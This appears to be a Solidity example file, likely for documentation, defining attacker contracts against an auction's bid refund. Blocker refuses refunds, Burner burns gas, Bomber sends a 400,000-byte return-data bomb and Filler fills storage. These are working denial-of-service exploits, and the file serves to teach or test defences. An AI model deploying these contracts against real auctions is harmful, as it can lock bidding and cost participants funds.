// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IAuction {
    function bid() external payable;
    function leader() external view returns (address);
    function highestBid() external view returns (uint256);
}

// #region blocker
/// Bids, but has no `receive` function, so paying it back always fails.
contract Blocker {
    function attack(IAuction auction) external payable {
        auction.bid{value: msg.value}();
    }
}
// #endregion blocker

// #region others
/// Uses up all the gas that comes with the refund.
contract Burner is Blocker {
    receive() external payable {
        assembly {
            invalid()
        }
    }
}

/// Accepts the refund and returns 400,000 bytes, which the auction copies.
contract Bomber is Blocker {
    receive() external payable {
        assembly {
            return(0, 400000)
        }
    }
}

/// Accepts the refund and fills ten slots.
contract Filler is Blocker {
    uint256[] private slots;

    receive() external payable {
        for (uint256 i = 0; i < 10; i++) slots.push(1);
    }
}
// #endregion others
